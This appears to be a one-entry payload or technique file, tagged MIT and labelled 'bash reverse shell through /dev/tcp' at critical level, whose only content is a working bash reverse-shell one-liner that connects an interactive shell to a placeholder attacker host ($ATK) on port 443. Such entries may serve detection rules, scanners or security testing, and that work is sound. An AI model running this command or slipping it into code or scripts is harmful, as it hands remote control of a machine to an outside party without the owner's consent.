# SPDX-License-Identifier: MIT
# technique: bash reverse shell through /dev/tcp
# level: critical
# quick: yes
t0
bash -c "bash -i >& /dev/tcp/$ATK/443 0>&1"
